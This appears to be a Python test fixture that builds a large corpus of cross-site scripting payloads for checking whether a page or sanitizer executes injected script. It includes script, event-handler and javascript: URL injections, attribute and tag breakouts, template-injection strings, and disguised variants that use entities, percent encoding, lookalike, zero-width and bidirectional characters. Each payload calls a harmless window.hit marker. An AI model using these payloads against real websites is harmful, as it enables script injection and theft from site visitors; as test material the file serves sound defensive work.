"""Texts that would run a script if any page believed them: made from ways in, ways out and disguises.

Each calls `hit(n)`; a page that runs one is caught, whatever it is called from.
"""

from __future__ import annotations

from collections.abc import Callable
from html import escape
from urllib.parse import quote

CALL = "window.hit(1)"

ELEMENTS = (
    "<script>{call}</script>",
    "<script>{call}",
    "<script/x>{call}</script>",
    "<SCRIPT>{call}</SCRIPT>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<script src=data:text/javascript,{call}></script>",
    "<script type=module>{call}</script>",
    "<img src=x onerror={call}>",
    "<img src=x onerror='{call}'>",
    '<img src="x" onerror="{call}">',
    "<IMG SRC=x ONERROR={call}>",
    "<img/src=x/onerror={call}>",
    "<img src=x:x onerror={call}//",
    "<svg onload={call}>",
    "<svg/onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><set onbegin={call} attributename=x>",
    "<svg><a href=javascript:{call}><text y=20>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror={call}></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    "<math href=javascript:{call}>x</math>",
    "<body onload={call}>",
    "<body onpageshow={call}>",
    "<iframe src=javascript:{call}></iframe>",
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
    "<object data=javascript:{call}></object>",
    "<embed src=javascript:{call}>",
    "<video><source onerror={call}></video>",
    "<video src=x onerror={call}></video>",
    "<audio src=x onerror={call}></audio>",
    "<input autofocus onfocus={call}>",
    "<select autofocus onfocus={call}>",
    "<textarea autofocus onfocus={call}>",
    "<button autofocus onfocus={call}>x</button>",
    "<details open ontoggle={call}>",
    "<marquee onstart={call}>x</marquee>",
    "<a href=javascript:{call}>x</a>",
    "<a href='java\tscript:{call}'>x</a>",
    "<form action=javascript:{call}><button autofocus>x</button></form>",
    "<form><button formaction=javascript:{call}>x</button></form>",
    "<isindex action=javascript:{call} type=submit>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<base href=javascript:{call}//>",
    "<link rel=stylesheet href=data:,*%7Bx:expression({call})%7D>",
    "<style>@import 'javascript:{call}';</style>",
    "<style onload={call}></style>",
    "<div style=width:expression({call})>x</div>",
    "<p onmouseover={call} style=position:fixed;inset:0>x</p>",
    "<x onclick={call} tabindex=0 autofocus onfocus={call}>x",
    "<template><script>{call}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<title><img src=x onerror={call}></title>",
    "<xmp><img src=x onerror={call}></xmp>",
    "<plaintext onfocus={call} autofocus tabindex=0>",
)
BREAKS = (
    '"><script>{call}</script>',
    "'><script>{call}</script>",
    '" onfocus="{call}" autofocus x="',
    "' onfocus='{call}' autofocus x='",
    '" onmouseover="{call}" style="position:fixed;inset:0" x="',
    "</textarea><script>{call}</script>",
    "</title><script>{call}</script>",
    "</style><script>{call}</script>",
    "</script><script>{call}</script>",
    "</bdi></div></article><img src=x onerror={call}>",
    "</option></select><img src=x onerror={call}>",
    "--><img src=x onerror={call}><!--",
    "]]><img src=x onerror={call}>",
    "<!--><img src=x onerror={call}>-->",
    "`><img src=x onerror={call}>",
    '\\"><img src=x onerror={call}>',
    "\n\n<img src=x\nonerror={call}>",
    "&quot;&gt;&lt;img src=x onerror={call}&gt;",
    "{{{{constructor.constructor('{call}')()}}}}",
    "{{% print('{call}') %}}<img src=x onerror={call}>",
    "${{{call}}}<img src=x onerror={call}>",
    "%%(x)s %s<img src=x onerror={call}>",
)
LINKS = (
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    'https://example.org/"onfocus={call} autofocus x=',
    "https://example.org/'onfocus={call}",
    "https://example.org/<script>{call}</script>",
    "https://example.org/\u2028<img src=x onerror={call}>",
    "http://javascript:{call}@example.org/",
    "data:text/html,<script>{call}</script>",
    "[x](javascript:{call})",
    '![x](x"onerror="{call})',
    "<https://example.org/><img src=x onerror={call}>",
    "vbscript:{call}",
)


def _direct() -> list[str]:
    return [text.format(call=CALL) for text in (*ELEMENTS, *BREAKS, *LINKS)]


def _disguised() -> list[str]:
    """The same, hidden in each way: entities, per cents, other letters, invisible ones, Urdu around."""
    disguises: tuple[Callable[[str], str], ...] = (
        escape,
        quote,
        lambda text: "".join(f"&#{ord(letter)};" for letter in text),
        lambda text: "".join(f"\\u{ord(letter):04x}" for letter in text),
        lambda text: text.translate({ord("<"): "\uff1c", ord(">"): "\uff1e", ord('"'): "\uff02"}),
        lambda text: text.translate({ord("<"): "\u02c2", ord(">"): "\u02c3"}),
        lambda text: text.replace("script", "scri\u200bpt").replace("onerror", "on\u200derror"),
        lambda text: f"\u202e{text}\u202c",
        lambda text: f"\u2067عدالت کا حکم {text} ضروری ہے\u2069",
        lambda text: text.upper(),
        lambda text: text.replace("<", "<\u0301"),
        lambda text: text.replace(" ", "\x0b").replace("=", "\x0c="),
    )
    chosen = (ELEMENTS[0], ELEMENTS[7], ELEMENTS[13], ELEMENTS[37], *BREAKS[:6], LINKS[0], LINKS[2])
    return [hide(text.format(call=CALL)) for hide in disguises for text in chosen]


PAYLOADS = tuple(dict.fromkeys([*_direct(), *_disguised()]))
